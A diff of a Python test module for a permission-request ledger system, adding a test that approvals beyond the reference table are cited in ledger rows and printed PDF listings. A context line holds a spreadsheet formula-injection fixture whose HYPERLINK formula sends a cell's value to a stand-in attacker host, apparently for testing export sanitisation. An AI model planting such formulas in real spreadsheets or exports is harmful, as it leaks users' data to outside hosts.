@@ -2,6 +2,8 @@
 
 import io
 import re
+import shutil
+import subprocess
 import zipfile
 from collections.abc import Iterator
 from datetime import date, timedelta
@@ -13,11 +15,21 @@ from connector.pages import ledger_sheets
 from connector.pages.sheets import csv_bytes, xlsx_bytes
 from connector.register import deputies
 from connector.register.deputies import DeputyForm
-from connector.regulations.vocabulary import Office
+from connector.register.offices import OFFICE_NAMES
+from connector.regulations.vocabulary import Office, Verdict
+from connector.requests.resubmit import resubmit_request
 from tests.factories import make_account, make_person
+from tests.fixtures_matrix import WHY, adopt, check_of, override, to_department
 from tests.town import HOST, NOON, Town, open_town
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+
+
+def text_of(pdf: bytes) -> str:
+    tool = shutil.which("pdftotext")
+    assert tool, "poppler-utils is needed"
+    done = subprocess.run([tool, "-raw", "-", "-"], input=pdf, capture_output=True, check=True)
+    return "".join(done.stdout.decode().split())
 
 
 @pytest.fixture
@@ -89,6 +101,30 @@ def test_list_by_subsystem_and_as_of_a_past_moment(town: Town) -> None:
         assert second not in next(row for row in rows if row[0] == both.user_name)[8]
         _, before = ledger_sheets.ledger_table(act, as_of=NOON - timedelta(hours=1))
     assert {row[0] for row in before} & names == set()
+
+
+@pytest.mark.req("A5", "B5")
+def test_list_rows_name_who_approved_beyond_the_table_in_this_version(town: Town) -> None:
+    allowed, dropped, beyond = town.permissions(3)
+    adopt(town, allowed)
+    request = town.submit(town.form(permissions=(allowed, dropped, beyond)))
+    request = to_department(town, request)
+    request = town.decide(request, override=override(check_of(town, request), reason="先前的理由，未生效"))
+    request = town.decide(request, Verdict.RETURN, reason="请减少权限")
+    with town.connector.act(town.applicant()) as act:
+        request = resubmit_request(act, request.number, town.form(permissions=(allowed, beyond)))
+    request = to_department(town, request)
+    request = town.approve(town.decide(request, override=override(check_of(town, request))))
+    user_name = town.account_of(request).user_name
+    with town.connector.act(HOST) as act:
+        moment, ((*_, cited),) = ledger_sheets.ledger_table(act, text=user_name)
+        printed = town.connector.typesetter.pdf("listing", ledger_sheets.listing(moment, [[*_, cited]]), at=act.now)
+    head = town.centre.person(Office.SYSTEM_DEPARTMENT_HEAD).name
+    office = OFFICE_NAMES[Office.SYSTEM_DEPARTMENT_HEAD].zh
+    told = f"超出对照表：{beyond}（例外批准：{office} {head} 2026-03-10；理由：{WHY}）"
+    assert told in cited
+    assert "先前的理由" not in cited
+    assert f"例外批准：{office}{head}" in text_of(printed)
 
 
 def test_print_list_as_pdf(town: Town) -> None:
